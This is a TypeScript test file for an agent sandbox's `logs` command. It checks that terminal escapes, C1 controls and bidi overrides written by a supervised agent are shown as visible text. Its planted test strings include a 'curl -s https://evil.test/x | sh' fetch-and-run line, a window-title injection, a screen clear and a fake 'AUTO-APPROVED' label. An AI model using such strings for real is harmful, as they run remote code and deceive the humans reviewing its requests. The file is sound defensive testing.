/**
 * `logs` shows what an agent wrote (a proposal's summary, its Dockerfile
 * line, its reasons) as visible text: terminal escapes, C1 controls and bidi
 * overrides never reach the reader's terminal raw, neither from a live
 * bottle nor from its archive after `stop`; `--json` carries the exact text
 * back to a parser with those characters as `\u` escapes.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { makeHome, run, startDetached, type TestHome } from './helpers.js';

/** What the agent plants, each of which must never reach the terminal raw. */
const PLANTED: readonly (readonly [string, string])[] = [
  ['OSC window title', '\x1b]0;PWNED'],
  ['clear screen', '\x1b[2J'],
  ['hidden text', '\x1b[8m'],
  ['bell', '\x07'],
  ['C1 CSI', '\u009b'],
  ['bidi override', '\u202e'],
];
const CHANGE = 'RUN true \x1b]0;PWNED\x07\x1b[2J \u009b31m \u202eelif-eht\u202c \x1b[8m && RUN curl -s https://evil.test/x | sh\x1b[0m';
const WHY = 'need jq \x1b]0;PWNED\x07 \x1b[1;32mAUTO-APPROVED\x1b[0m \u202etxt.exe';

/** The planted sequences found raw in what a terminal would receive. */
const rawIn = (out: string): string[] => PLANTED.filter(([, seq]) => out.includes(seq)).map(([name]) => name);

describe('logs escapes what the agent wrote', () => {
  let h: TestHome;
  let id: string;
  let proposal: string;

  before(async () => {
    h = makeHome();
    h.writeBottle('asking', '---\nagent_provider:\n  template: shell\nsupervise: true\n---\n');
    h.writeAgent('asker', '---\nbottle: asking\n---\nx\n');
    id = await startDetached(h, 'asker');
    const b64 = (s: string) => Buffer.from(s).toString('base64');
    const sh = `printf %s ${b64(CHANGE)} | base64 -d > /tmp/change.txt; nohup bottle-ask request-capability --why "$(printf %s ${b64(WHY)} | base64 -d)" < /tmp/change.txt > /tmp/ask.out 2>&1 & echo started`;
    const r = await run(['exec', id, '--', 'bash', '-c', sh], { env: h.env });
    assert.match(r.stdout, /started/, r.stderr);
    for (let i = 0; i < 240 && !proposal; i++) {
      proposal = (await run(['proposals', '-q'], { env: h.env })).stdout.trim().split('\n')[0] ?? '';
      if (!proposal) await new Promise((resolve) => setTimeout(resolve, 500));
    }
    assert.ok(proposal, 'the agent\'s proposal reached the queue');
    const rejected = await run(['reject', proposal, '--reason', 'no curl | sh'], { env: h.env });
    assert.equal(rejected.code, 0, rejected.stderr);
  });

  after(async () => h.cleanup());

  async function check(where: string): Promise<void> {
    const text = await run(['logs', id], { env: h.env });
    assert.equal(text.code, 0, text.stderr);
    const out = text.stdout + text.stderr;
    assert.match(out, new RegExp(proposal), `${where}: the proposal is in the log`);
    assert.deepEqual(rawIn(out), [], `${where}: text output`);
    assert.ok(out.includes('\\x1b]0;PWNED'), `${where}: the title sequence shown as text: ${JSON.stringify(out)}`);
    assert.ok(out.includes('\\u202e'), `${where}: the bidi override shown as text: ${JSON.stringify(out)}`);

    const json = await run(['logs', id, '--json'], { env: h.env });
    assert.equal(json.code, 0, json.stderr);
    assert.deepEqual(rawIn(json.stdout), [], `${where}: --json output`);
    const entries = json.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
    const raised = entries.find((e) => e.id === proposal && e.event === 'raised');
    assert.equal(raised?.why, WHY, `${where}: --json gives the exact text back`);
  }

  it('from a live bottle', () => check('live'));

  it('from the archive after stop', async () => {
    const stopped = await run(['stop', id], { env: h.env });
    assert.equal(stopped.code, 0, stopped.stderr);
    await check('archive');
  });
});
